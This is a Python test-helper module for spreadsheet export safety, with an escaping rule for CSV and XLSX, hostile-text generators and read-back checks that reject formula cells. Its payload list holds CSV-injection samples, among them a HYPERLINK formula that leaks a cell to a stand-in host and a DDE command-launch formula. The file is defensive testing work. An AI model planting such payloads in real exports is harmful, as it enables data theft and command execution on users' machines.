"""The safe-export rule written out independently, hostile text, and read-back helpers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

# The temp_files fixture (tests/conftest.py): the files left in this test's temp dir.
Leftovers = Callable[[], list[str]]

# OWASP "CSV Injection": a cell starting with one of these is a formula to a spreadsheet.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def unstorable(c: str) -> bool:
    """NUL and lone surrogates: no file (nor PostgreSQL) can hold them; CSV writes U+FFFD."""
    return c == "\x00" or "\ud800" <= c <= "\udfff"


def not_xml(c: str) -> bool:
    """What XML 1.0 (XLSX) cannot carry: C0 controls but tab/LF/CR, surrogates, U+FFFE/F."""
    return (c < " " and c not in "\t\n\r") or "\ud800" <= c <= "\udfff" or c in "\ufffe\uffff"


def reference(text: str, illegal: Callable[[str], bool] = unstorable) -> str:
    """The exported text: illegal characters as U+FFFD, then a ' before a formula trigger."""
    text = "".join("\ufffd" if illegal(c) else c for c in text)
    return "'" + text if text.startswith(TRIGGERS) else text


def xlsx_reference(text: str) -> str:
    """What an XLSX reader gets back for ``text`` (XML turns CR and CRLF into LF)."""
    return reference(text, not_xml).replace("\r\n", "\n").replace("\r", "\n")


def safe_filename(name: str) -> str:
    """A download name as the exports give it: letters, digits, - _ . kept, others _."""
    return "".join(c if c.isalnum() or c in "-_." else "_" for c in name)


# Formula payloads and text that used to break an export (controls, CJK, noncharacters).
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "=", "-", "-0.5", "'=1+1", "#N/A", "#DIV/0!", "a;=1+1",
    'a",=1+1', "x\x00y", "\x00=1", "\ud800=1", "\x01=1", "\x1b[2J", "\x7f", "\x85", "\ufffe",
    "\uffff", "华北", "王芳", "😀", "_x0041_", "a\r\nb", " =1+1", "",
]  # fmt: skip
ANY_CHAR = st.characters(codec=None, categories=None)
# What PostgreSQL stores (and so what an export can meet): everything but NUL and surrogates.
STORABLE_CHAR = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")


def hostile_text(storable: bool = False, min_size: int = 0) -> st.SearchStrategy[str]:
    """Arbitrary text, the payloads above, and a trigger before arbitrary text; ``storable``:
    only what PostgreSQL can hold (ids and names stored before the id rule may hold the rest).
    """
    chars = STORABLE_CHAR if storable else ANY_CHAR
    payloads = [
        p
        for p in PAYLOADS
        if len(p) >= min_size and not (storable and any(unstorable(c) for c in p))
    ]
    return st.one_of(
        st.text(chars, min_size=min_size, max_size=12),
        st.sampled_from(payloads),
        st.tuples(st.sampled_from(TRIGGERS), st.text(chars, max_size=8)).map("".join),
    )


def read_csv(raw: bytes) -> list[list[str]]:
    """A CSV export as the csv module reads it (UTF-8 with a BOM, quoted newlines kept)."""
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(raw: bytes) -> Workbook:
    """An XLSX export opened by openpyxl, checked to hold no formula cell anywhere."""
    wb = load_workbook(io.BytesIO(raw))
    formulas = [
        (ws.title, c.coordinate, c.value)
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert not formulas, formulas
    return wb
